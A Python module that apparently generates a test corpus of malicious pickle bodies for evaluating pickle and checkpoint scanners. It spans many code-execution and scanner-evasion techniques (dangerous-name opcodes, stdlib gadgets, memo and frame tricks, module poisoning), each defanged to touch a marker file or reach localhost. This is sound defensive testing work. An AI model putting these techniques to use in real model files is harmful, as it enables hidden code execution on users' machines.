"""Hostile techniques, one pickle body each: what they call and how they reach it.

Learnt from the test suites of picklescan, modelscan and fickling and from bypass reports
against them and against ``torch.load`` (GHSA-* advisories, JFrog's CVE-2025-10155/6/7,
protectai/modelscan#338, python/cpython frame handling).  Nothing is copied from them: each
body is written here, and every payload is harmless: it creates the target's marker file, or
opens a connection to a port on 127.0.0.1 that the caller listens on.

A body pushes exactly one value, so it can be a whole pickle or run inside a checkpoint's.
"""

from __future__ import annotations

import marshal
import os
import pickle
import shlex
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from corpus.opcodes import (Reduce, call, get, glob, put, raw_bytes, small_int, stack_glob,
                            str_dict, str_list, text_str, tup, ustr, whole)


@dataclass(frozen=True)
class Target:
    """What a payload does: create ``marker``, or connect to 127.0.0.1:``port``."""

    marker: Path
    port: int = 0

    @property
    def cmd(self) -> str:
        return f"touch {shlex.quote(str(self.marker))}"

    @property
    def src(self) -> str:
        """Python source (an expression too) that creates the marker."""
        return f"open({str(self.marker)!r}, 'w').close()"


Body = Callable[[Target], bytes]

#: The classes of issue 12 a technique exercises.
CLASSES = ("named-callable", "gadget", "computed-callable", "frames", "module-state",
           "encoding")


@dataclass(frozen=True)
class Technique:
    id: str
    klass: str
    body: Body
    source: str  # where the technique was learnt
    proto: int = 2
    #: The real loader that runs the standalone pickle (see scan_corpus.LOADERS).
    loader: str = "pickle.loads"
    network: bool = False
    #: A whole file instead of ``whole(body)`` (frames need control over the header).
    file: Callable[[Target], bytes] | None = None

    def pickle(self, target: Target) -> bytes:
        return self.file(target) if self.file else whole(self.body(target), self.proto)


def simple(module: str, name: str, *args: Body, stack: bool = False) -> Body:
    """``module.name(*args)``, each argument built for the target."""
    name_op = stack_glob if stack else glob
    return lambda t: call(name_op(module, name), *(a(t) for a in args))


def _s(value: Callable[[Target], str]) -> Body:
    return lambda t: ustr(value(t))


CMD, SRC, MARKER = _s(lambda t: t.cmd), _s(lambda t: t.src), _s(lambda t: str(t.marker))
EMPTY_DICT: Body = lambda t: pickle.EMPTY_DICT  # noqa: E731
NONE: Body = lambda t: pickle.NONE  # noqa: E731
TRUE: Body = lambda t: pickle.NEWTRUE  # noqa: E731
FALSE: Body = lambda t: pickle.NEWFALSE  # noqa: E731


def _int(value: int) -> Body:
    return lambda t: small_int(value)


def _address(t: Target) -> bytes:
    return tup(ustr("127.0.0.1"), pickle.BININT2 + struct.pack("<H", t.port))


def _inner(t: Target) -> bytes:
    """A whole pickle that runs os.system, as bytes for a nested loader."""
    return raw_bytes(pickle.dumps(Reduce(os.system, t.cmd), protocol=2))


def _namespace() -> bytes:
    """An empty ``argparse.Namespace``: an object with a ``__dict__`` for gadgets that
    take ``self``."""
    return glob("argparse", "Namespace") + pickle.EMPTY_TUPLE + pickle.NEWOBJ


def _touch_argv(t: Target) -> bytes:
    return str_list("touch", str(t.marker))


# --- bodies that need more than one call ------------------------------------------------------

def _memo_stack_global(t: Target) -> bytes:
    # Operands are stored in the memo early, dropped, and fetched back far from their push.
    return (ustr("builtins") + put(0) + ustr("exec") + put(1) + pickle.POP + pickle.POP
            + ustr("noise") + pickle.POP + pickle.EMPTY_LIST + pickle.POP
            + get(0) + get(1) + pickle.STACK_GLOBAL + tup(ustr(t.src)) + pickle.REDUCE)


def _inst(t: Target) -> bytes:
    return pickle.MARK + text_str(t.cmd) + pickle.INST + b"os\nsystem\n"


def _obj(t: Target) -> bytes:
    return pickle.MARK + glob("os", "system") + ustr(t.cmd) + pickle.OBJ


def _obj_popped(t: Target) -> bytes:
    """An OBJ call whose result is dropped at once (fickling GHSA-mxhj: invisible calls)."""
    return (pickle.MARK + stack_glob("subprocess", "call") + _touch_argv(t) + pickle.OBJ
            + pickle.POP + pickle.NONE)


def _getattr_chain(t: Target) -> bytes:
    os_module = call(glob("builtins", "__import__"), ustr("os"))
    system = call(glob("builtins", "getattr"), os_module, ustr("system"))
    return system + tup(ustr(t.cmd)) + pickle.REDUCE


def _memo_getattr_chain(t: Target) -> bytes:
    """fickling GHSA-h4rm: results parked in the memo with PUT/GET between the calls."""
    return (call(glob("builtins", "__import__"), ustr("os")) + put(0) + pickle.POP
            + call(glob("builtins", "getattr"), get(0), ustr("system")) + put(1) + pickle.POP
            + get(1) + tup(ustr(t.cmd)) + pickle.REDUCE)


def _setstate_gadget(t: Target) -> bytes:
    # A harmless class instance gets os.system as its instance __setstate__ through the slot
    # state of one BUILD; the next BUILD then calls inst.__setstate__(cmd).
    inst = _namespace()
    slots = pickle.EMPTY_DICT + ustr("__setstate__") + glob("os", "system") + pickle.SETITEM
    return inst + tup(pickle.NONE, slots) + pickle.BUILD + ustr(t.cmd) + pickle.BUILD


def _attrgetter(t: Target) -> bytes:
    getter = call(glob("operator", "attrgetter"), ustr("system"))
    system = getter + tup(call(glob("builtins", "__import__"), ustr("os"))) + pickle.REDUCE
    return system + tup(ustr(t.cmd)) + pickle.REDUCE


def _methodcaller(t: Target) -> bytes:
    caller = call(glob("operator", "methodcaller"), ustr("system"), ustr(t.cmd))
    return caller + tup(call(glob("builtins", "__import__"), ustr("os"))) + pickle.REDUCE


def _pydoc_methodcaller(t: Target) -> bytes:
    """picklescan GHSA-84r2: methodcaller('system', cmd)(pydoc.locate('os'))."""
    caller = call(glob("_operator", "methodcaller"), ustr("system"), ustr(t.cmd))
    return caller + tup(call(glob("pydoc", "locate"), ustr("os"))) + pickle.REDUCE


def _partial(t: Target) -> bytes:
    bound = call(glob("functools", "partial"), glob("os", "system"), ustr(t.cmd))
    return bound + pickle.EMPTY_TUPLE + pickle.REDUCE


def _exec_compile(t: Target) -> bytes:
    code = call(glob("builtins", "compile"), ustr(t.src), ustr("<ckpt>"), ustr("exec"))
    return call(glob("builtins", "exec"), code)


def _marshal_function(t: Target) -> bytes:
    code = marshal.dumps(compile(t.src, "<ckpt>", "exec"))
    func = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), raw_bytes(code)),
                pickle.EMPTY_DICT)
    return func + pickle.EMPTY_TUPLE + pickle.REDUCE


def _importlib(t: Target) -> bytes:
    os_module = call(stack_glob("importlib", "import_module"), ustr("os"))
    return call(stack_glob("builtins", "getattr"), os_module, ustr("system")) + tup(
        ustr(t.cmd)) + pickle.REDUCE


def _resolve_name(t: Target) -> bytes:
    """picklescan GHSA-vvpj: one resolver reaches every refused name."""
    return call(stack_glob("pkgutil", "resolve_name"), ustr("os:system")) + tup(
        ustr(t.cmd)) + pickle.REDUCE


def _pydoc_locate(t: Target) -> bytes:
    return call(stack_glob("pydoc", "locate"), ustr("os.system")) + tup(ustr(t.cmd)) + \
        pickle.REDUCE


def _create_fn(t: Target) -> bytes:
    """dataclasses._create_fn compiles a function from source lines; calling it runs them."""
    made = call(stack_glob("dataclasses", "_create_fn"), ustr("payload"), pickle.EMPTY_TUPLE,
                str_list(t.src))
    return made + pickle.EMPTY_TUPLE + pickle.REDUCE


def _forward_ref(t: Target) -> bytes:
    """typing._eval_type evaluates a ForwardRef's source."""
    ref = call(stack_glob("typing", "ForwardRef"), ustr(t.src))
    return call(stack_glob("typing", "_eval_type"), ref, pickle.EMPTY_DICT, pickle.EMPTY_DICT)


def _type_hints(t: Target) -> bytes:
    """typing.get_type_hints evaluates string annotations an earlier BUILD planted."""
    planted = _namespace() + str_dict(__annotations__=str_dict(x=ustr(t.src))) + pickle.BUILD
    return call(stack_glob("typing", "get_type_hints"), planted)


def _interpreter_runsource(t: Target) -> bytes:
    """fickling GHSA-q5qq: getattr(code.InteractiveInterpreter(), 'runsource')(src)."""
    interp = call(stack_glob("code", "InteractiveInterpreter"))
    run = call(stack_glob("builtins", "getattr"), interp, ustr("runsource"))
    return run + tup(ustr(t.src)) + pickle.REDUCE


def _ctypes_system(t: Target) -> bytes:
    """fickling GHSA-5hvc: getattr(ctypes.CDLL(None), 'system')(cmd)."""
    libc = call(stack_glob("ctypes", "CDLL"), pickle.NONE)
    system = call(stack_glob("builtins", "getattr"), libc, ustr("system"))
    return system + tup(pickle.SHORT_BINBYTES + bytes([len(t.cmd)]) + t.cmd.encode()) + \
        pickle.REDUCE


def _subinterpreter(t: Target) -> bytes:
    interp = call(stack_glob("_xxsubinterpreters", "create"))
    return call(stack_glob("_xxsubinterpreters", "run_string"), interp, ustr(t.src))


def _spawnv_passfds(t: Target) -> bytes:
    argv = pickle.EMPTY_LIST + pickle.MARK + b"".join(
        pickle.SHORT_BINBYTES + bytes([len(a)]) + a
        for a in (b"/bin/sh", b"-c", t.cmd.encode())) + pickle.APPENDS
    return call(stack_glob("multiprocessing.util", "spawnv_passfds"),
                pickle.SHORT_BINBYTES + b"\x07/bin/sh", argv, pickle.EMPTY_TUPLE)


def _bdb_run(t: Target) -> bytes:
    return call(stack_glob("bdb", "Bdb.run"), call(stack_glob("bdb", "Bdb")), ustr(t.src))


def _trace_runctx(t: Target) -> bytes:
    return call(stack_glob("trace", "Trace.runctx"), call(stack_glob("trace", "Trace")),
                ustr(t.src), pickle.EMPTY_DICT, pickle.EMPTY_DICT)


def _asyncio_transport(t: Target) -> bytes:
    return call(stack_glob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                pickle.EMPTY_DICT, ustr(t.cmd), pickle.NEWTRUE, pickle.NONE, pickle.NONE,
                pickle.NONE, small_int(0))


def _eval_dotted_call(t: Target) -> bytes:
    """modelscan: GLOBAL 'builtins eval.__call__' (protocol 4 resolves dotted names)."""
    return call(glob("builtins", "eval.__call__"), ustr(t.src))


def _dotted_traversal(t: Target) -> bytes:
    # Protocol 4 resolves 'argparse' '_os.system' attribute by attribute: argparse's own
    # `import os as _os`, then .system.  A PROTO opcode mid-stream switches that on.
    return (pickle.PROTO + b"\x04" + stack_glob("argparse", "_os.system") + tup(ustr(t.cmd))
            + pickle.REDUCE)


def _pathlib_dotted(t: Target) -> bytes:
    """fickling GHSA-5j3x: a dotted name through a harmless-looking stdlib module."""
    return call(stack_glob("pathlib", "os.system"), ustr(t.cmd))


def _py2_alias(t: Target) -> bytes:
    # fix_imports maps the Python 2 name cPickle to pickle; the inner pickle is opaque bytes.
    return call(glob("cPickle", "loads"), _inner(t))


def _strings_for_stack_global(t: Target) -> bytes:
    """picklescan GHSA-9gvj: protocol 0 STRING operands for STACK_GLOBAL."""
    return text_str("os") + text_str("system") + pickle.STACK_GLOBAL + tup(
        text_str(t.cmd)) + pickle.REDUCE


def hidden_system(t: Target) -> bytes:
    """os.system(cmd) whose STACK_GLOBAL operands a string-tracking static scan gets wrong:
    after 'os' 'system' 'junk' POP it pairs the last two strings it saw."""
    return (ustr("os") + ustr("system") + ustr("junk") + pickle.POP + pickle.STACK_GLOBAL
            + tup(ustr(t.cmd)) + pickle.REDUCE)


def _memo_misdirection(t: Target) -> bytes:
    """picklescan issue #22: memo slots that a scanner attributes to the wrong strings."""
    return (pickle.UNICODE + b"os\n" + pickle.PUT + b"2\n" + pickle.POP
            + pickle.UNICODE + b"system\n" + pickle.PUT + b"3\n" + pickle.POP
            + pickle.UNICODE + b"torch\n" + pickle.PUT + b"0\n" + pickle.POP
            + pickle.UNICODE + b"LongStorage\n" + pickle.PUT + b"1\n" + pickle.POP
            + pickle.GET + b"2\n" + pickle.GET + b"3\n" + pickle.STACK_GLOBAL
            + tup(ustr(t.cmd)) + pickle.REDUCE)


def _octal_int(t: Target) -> bytes:
    """INT '010' is 8 to the C unpickler and an error to the pure-Python one."""
    return pickle.INT + b"010\n" + pickle.POP + hidden_system(t)


def _computed_stack_global(t: Target) -> bytes:
    # STACK_GLOBAL's operands are call results: posixpath.basename('/x/os') is 'os'.
    module = call(glob("posixpath", "basename"), ustr("/x/os"))
    name = call(glob("posixpath", "basename"), ustr("/x/system"))
    return module + name + pickle.STACK_GLOBAL + tup(ustr(t.cmd)) + pickle.REDUCE


def _module_build(t: Target) -> bytes:
    """BUILD on a module sets attributes; STACK_GLOBAL then takes them as its operands."""
    decoder = glob("json", "decoder")
    state = str_dict(ckpt_m=ustr("os"), ckpt_n=ustr("system"))
    return (decoder + state + pickle.BUILD + pickle.POP + glob("json.decoder", "ckpt_m")
            + glob("json.decoder", "ckpt_n") + pickle.STACK_GLOBAL + tup(ustr(t.cmd))
            + pickle.REDUCE)


def _poisoned_allowlisted_name(t: Target) -> bytes:
    """BUILD on the module of an allowlisted name (collections, via typing's import of it)
    replaces the name; the allowlisted GLOBAL then reaches what the BUILD put there."""
    system = glob("json.decoder", "ckpt_m") + glob("json.decoder", "ckpt_n") + \
        pickle.STACK_GLOBAL
    setup = (glob("json", "decoder") + str_dict(ckpt_m=ustr("os"), ckpt_n=ustr("system"))
             + pickle.BUILD + pickle.POP)
    poison = (glob("typing", "collections") + str_dict(OrderedDict=system) + pickle.BUILD
              + pickle.POP)
    return setup + poison + call(glob("collections", "OrderedDict"), ustr(t.cmd))


def _memo_keyerror(t: Target) -> bytes:
    """picklescan keyerror-exploit: the payload runs before a BINGET of a missing slot."""
    return (call(glob("os", "system"), ustr(t.cmd)) + pickle.POP + ustr("os") + pickle.MEMOIZE
            + get(3) + get(0) + pickle.STACK_GLOBAL)


def _memo_type_confusion(t: Target) -> bytes:
    """picklescan type-confusion-exploit: an int in the memo where a scanner wants a str."""
    return (call(glob("os", "system"), ustr(t.cmd)) + pickle.POP + small_int(42) + put(0)
            + ustr("os") + put(1) + get(0) + get(1) + pickle.STACK_GLOBAL)


def _broken_after_payload(t: Target) -> bytes:
    """picklescan broken_model: the file breaks right after the payload ran."""
    return call(glob("builtins", "exec"), ustr(t.src)) + pickle.BINUNICODE + b"\xff\xff"


# --- frames: the same bytes, different opcodes for different loaders --------------------------

def _frame_straddle(t: Target) -> bytes:
    """A frame declares 3 bytes; pickle.loads reads on through it (contiguous) and runs the
    payload, a file without peek takes the operand from after the frame instead."""
    rest = stack_glob("builtins", "exec") + tup(ustr(t.src)) + pickle.REDUCE
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", 3) + rest + pickle.STOP


def _frame_hides(t: Target, pad: int) -> bytes:
    """The payload is bytes data to a contiguous reader (pickle.loads, pickletools and the
    scanners built on it) and opcodes to a loader that reads the frame on its own: the frame
    ends one byte into BINBYTES' 4-byte length, and such a loader drops that byte and takes
    the length (0) from after the frame; the contiguous one reads a length that swallows the
    payload.  ``pad`` makes the frame longer than a buffered file can peek ahead."""
    payload = call(glob("os", "system"), ustr(t.cmd)) + pickle.POP
    assert len(payload) < 255
    padding = pickle.BINUNICODE + struct.pack("<I", pad) + b"a" * pad + pickle.POP if pad \
        else b""
    frame = pickle.NONE + padding + pickle.BINBYTES + bytes([1 + len(payload)])
    return (pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame)) + frame
            + bytes(4) + payload + pickle.POP + pickle.POP + pickle.EMPTY_DICT + pickle.STOP)


T = Technique
TECHNIQUES: list[Technique] = [
    # Dangerous names, reached through every naming opcode.
    T("global-os-system", "named-callable", simple("os", "system", CMD), "every suite"),
    T("global-posix-system", "named-callable", simple("posix", "system", CMD), "picklescan"),
    T("stack-global-memo-binget", "encoding", _memo_stack_global, "picklescan #22"),
    T("inst-opcode", "encoding", _inst, "picklescan malicious10"),
    T("obj-opcode", "encoding", _obj, "fickling PR 108"),
    T("obj-call-popped", "encoding", _obj_popped, "fickling GHSA-mxhj", proto=4),
    T("protocol4-dotted-name", "encoding", _dotted_traversal, "fickling GHSA-5j3x"),
    T("pathlib-dotted-name", "encoding", _pathlib_dotted, "fickling GHSA-5j3x", proto=4),
    T("eval-call-dotted", "encoding", _eval_dotted_call, "modelscan malicious13", proto=5),
    T("py2-alias-cpickle-loads", "encoding", _py2_alias, "picklescan malicious13a"),
    T("string-operands-stack-global", "encoding", _strings_for_stack_global,
      "picklescan GHSA-9gvj", proto=0),
    T("hidden-stack-global-operands", "encoding", hidden_system, "ckptkit"),
    T("memo-misdirection", "encoding", _memo_misdirection, "picklescan #22, modelscan"),
    T("int-octal-literal", "encoding", _octal_int, "C vs Python unpickler"),
    T("memo-keyerror-after-payload", "encoding", _memo_keyerror, "picklescan keyerror-exploit",
      proto=4),
    T("memo-type-confusion", "encoding", _memo_type_confusion,
      "picklescan type-confusion-exploit", proto=4),
    T("broken-after-payload", "encoding", _broken_after_payload, "picklescan broken_model"),
    T("computed-stack-global-operands", "computed-callable", _computed_stack_global,
      "ckptkit"),
    # Code execution through builtins, runners and gadgets.
    T("builtins-eval", "named-callable", simple("builtins", "eval", SRC), "every suite"),
    T("builtins-exec-compile", "named-callable", _exec_compile, "sour pickles"),
    T("marshal-code-function", "named-callable", _marshal_function, "fickling GHSA-565g",
      proto=4),
    T("runpy-run-code", "named-callable", simple("runpy", "_run_code", SRC, EMPTY_DICT),
      "picklescan malicious14"),
    T("nested-pickle-loads", "named-callable", simple("pickle", "loads", _inner),
      "modelscan malicious12"),
    T("bdb-run", "gadget", _bdb_run, "picklescan malicious15", proto=4),
    T("cprofile-run", "gadget", simple("cProfile", "run", SRC, stack=True),
      "fickling GHSA-p523", proto=4),
    T("cprofile-runctx", "gadget", simple("cProfile", "runctx", SRC, NONE, NONE),
      "picklescan GHSA-9w88"),
    T("profile-run", "gadget", simple("profile", "run", SRC), "picklescan GHSA-7wx9"),
    T("timeit-setup", "gadget", simple("timeit", "timeit", _s(lambda t: "pass"), SRC),
      "picklescan malicious21"),
    T("trace-runctx", "gadget", _trace_runctx, "picklescan GHSA-g344", proto=4),
    T("code-interpreter-runsource", "computed-callable", _interpreter_runsource,
      "fickling GHSA-q5qq", proto=5),
    T("doctest-debug-script", "gadget", simple("doctest", "debug_script", SRC, TRUE),
      "picklescan GHSA-fqq6"),
    T("numpy-testing-runstring", "gadget",
      simple("numpy.testing._private.utils", "runstring", SRC, EMPTY_DICT),
      "picklescan malicious22"),
    T("typing-eval-type", "gadget", _forward_ref, "issue 12", proto=4),
    T("typing-get-type-hints", "gadget", _type_hints, "issue 12", proto=4),
    T("idlelib-calltip-get-entity", "gadget",
      simple("idlelib.calltip", "get_entity", SRC, stack=True), "picklescan GHSA-9xph",
      proto=4),
    T("lib2to3-grammar-loads", "gadget",
      lambda t: call(stack_glob("lib2to3.pgen2.grammar", "Grammar.loads"), _namespace(),
                     _inner(t)), "picklescan GHSA-f54q", proto=4),
    T("test-support-assert-python-ok", "gadget",
      simple("test.support.script_helper", "assert_python_ok", _s(lambda t: "-c"), SRC,
             stack=True), "picklescan GHSA-g38g", proto=4),
    T("subinterpreter-run-string", "gadget", _subinterpreter, "fickling GHSA-6ggj", proto=4),
    T("dataclasses-create-fn", "computed-callable", _create_fn, "issue 12", proto=4),
    T("pkgutil-resolve-name", "computed-callable", _resolve_name, "picklescan GHSA-vvpj",
      proto=4),
    T("pydoc-locate", "computed-callable", _pydoc_locate, "fickling GHSA-5hvc", proto=4),
    T("pydoc-locate-methodcaller", "computed-callable", _pydoc_methodcaller,
      "picklescan GHSA-84r2"),
    T("importlib-import-module", "computed-callable", _importlib, "fickling GHSA-q5qq",
      proto=4),
    T("getattr-import-chain", "computed-callable", _getattr_chain, "sour pickles"),
    T("getattr-memo-chain", "computed-callable", _memo_getattr_chain, "fickling GHSA-h4rm"),
    T("operator-attrgetter", "computed-callable", _attrgetter, "picklescan malicious12"),
    T("operator-methodcaller", "computed-callable", _methodcaller, "picklescan"),
    T("functools-partial", "computed-callable", _partial, "picklescan malicious19"),
    T("ctypes-cdll-system", "computed-callable", _ctypes_system, "fickling GHSA-5hvc",
      proto=4),
    T("build-setstate-gadget", "computed-callable", _setstate_gadget, "ckptkit"),
    # Processes, files and the network.
    T("subprocess-call", "named-callable", simple("subprocess", "call", _touch_argv),
      "modelscan malicious7"),
    T("subprocess-check-output", "named-callable",
      simple("subprocess", "check_output", _touch_argv), "picklescan"),
    T("multiprocessing-spawnv-passfds", "gadget", _spawnv_passfds, "protectai/modelscan#338",
      proto=5),
    T("torch-collect-env-run", "gadget", simple("torch.utils.collect_env", "run", CMD),
      "protectai/modelscan#338, picklescan GHSA-f745", proto=4),
    T("torch-collect-env-run-and-read-all", "gadget",
      lambda t: call(glob("torch.utils.collect_env", "run_and_read_all"),
                     glob("torch.utils.collect_env", "run"), ustr(t.cmd)),
      "picklescan GHSA-jhph"),
    T("torch-jit-exec-wrapper", "gadget",
      simple("torch.jit.unsupported_tensor_ops", "execWrapper", SRC, EMPTY_DICT, EMPTY_DICT),
      "picklescan GHSA-vr7h"),
    T("torch-datapipes-decoder-pickle", "gadget",
      lambda t: call(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                     ustr("pickle"), _inner(t)), "picklescan GHSA-h3qp"),
    T("asyncio-subprocess-transport", "gadget", _asyncio_transport, "picklescan GHSA-f7qq",
      proto=4),
    T("pydoc-pipepager", "gadget", simple("pydoc", "pipepager", _s(lambda t: ""), CMD),
      "picklescan malicious18"),
    T("imaplib-imap4-stream", "gadget", simple("imaplib", "IMAP4_stream", CMD),
      "picklescan GHSA-g38g"),
    T("uuid-get-command-stdout", "gadget",
      lambda t: call(glob("uuid", "_get_command_stdout"), ustr("touch"), ustr(str(t.marker))),
      "fickling GHSA-5hwf"),
    T("osx-support-read-output", "gadget", simple("_osx_support", "_read_output", CMD),
      "picklescan GHSA-g38g"),
    T("osx-support-find-build-tool", "gadget",
      simple("_osx_support", "_find_build_tool", _s(lambda t: f"x; {t.cmd} #")),
      "fickling GHSA-5hwf"),
    T("venv-create", "gadget", simple("venv", "create", MARKER, FALSE, FALSE, TRUE, FALSE),
      "picklescan malicious20"),
    T("distutils-write-file", "gadget",
      lambda t: call(glob("distutils.file_util", "write_file"), ustr(str(t.marker)),
                     pickle.EMPTY_LIST), "picklescan GHSA-m273"),
    T("io-fileio-create", "named-callable", simple("_io", "FileIO", MARKER, _s(lambda t: "w")),
      "picklescan io_FileIO"),
    T("logging-filehandler", "named-callable", simple("logging", "FileHandler", MARKER),
      "picklescan logging_FileHandler"),
    T("gzip-open-write", "named-callable", simple("gzip", "open", MARKER, _s(lambda t: "wb")),
      "ckptkit"),
    T("numpy-memmap-creates-file", "named-callable",
      simple("numpy", "memmap", MARKER, _s(lambda t: "uint8"), _s(lambda t: "w+"), _int(0),
             lambda t: tup(small_int(1))), "ckptkit"),
    T("shutil-copyfile", "named-callable",
      simple("shutil", "copyfile", _s(lambda t: "/dev/null"), MARKER), "picklescan"),
    T("socket-create-connection", "named-callable",
      lambda t: call(glob("socket", "create_connection"), _address(t)), "modelscan malicious6",
      network=True),
    T("ssl-get-server-certificate", "gadget",
      lambda t: call(glob("ssl", "get_server_certificate"), _address(t)),
      "picklescan dns_exfiltration", network=True),
    T("nntplib-connect", "gadget",
      lambda t: call(glob("nntplib", "NNTP"), ustr("127.0.0.1"),
                     pickle.BININT2 + struct.pack("<H", t.port)), "issue 12", network=True),
    T("urllib-urlopen", "named-callable",
      lambda t: call(glob("urllib.request", "urlopen"), ustr(f"http://127.0.0.1:{t.port}/")),
      "picklescan urllib_request_urlopen", network=True),
    # Frames: one pickle, two opcode streams.
    T("frame-straddling-opcode", "frames", lambda t: b"", "cpython frames",
      file=_frame_straddle),
    T("frame-hides-payload-in-bytes", "frames", lambda t: b"", "fickling frame divergence",
      file=lambda t: _frame_hides(t, 0), loader="pickle.load-bytesio"),
    T("frame-longer-than-the-buffer", "frames", lambda t: b"", "cpython frames",
      file=lambda t: _frame_hides(t, 200 << 10), loader="pickle.load"),
    # Module state: a BUILD on a module, then globals that read what it set.
    T("build-module-then-stack-global", "module-state", _module_build, "issue 12"),
    T("build-module-poisons-allowlisted-name", "module-state", _poisoned_allowlisted_name,
      "issue 12"),
]
